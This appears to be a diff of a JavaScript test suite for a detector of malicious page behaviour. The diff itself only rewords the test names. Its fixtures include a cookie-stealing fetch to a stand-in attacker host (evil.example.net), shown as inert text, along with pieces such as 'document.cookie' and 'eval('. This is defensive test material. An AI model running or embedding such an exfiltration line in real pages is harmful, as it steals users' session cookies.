@@ -67,18 +67,18 @@ const HARMLESS = [
   '<pre>To steal it: fetch("https://evil.example.net/?c="+document.cookie)</pre>',
 ];
 
-describe('what a page does', () => {
+describe('the behavior of a page', () => {
   for (const [rule, pages] of Object.entries(THREATS)) {
-    it(`${rule} is found`, () => {
+    it(`is detected: ${rule}`, () => {
       for (const page of pages) assert.ok(rulesOf(page).includes(rule), page);
     });
   }
 
-  it('is nothing special on harmless pages', () => {
+  it('is not reported for harmless pages', () => {
     for (const page of HARMLESS) assert.deepEqual(rulesOf(page), [], page);
   });
 
-  it('is found in linear time', () => {
+  it('is detected in linear time', () => {
     const pieces = [
       'document.cookie;fetch("https://e.example.net/a");',
       'eval(',
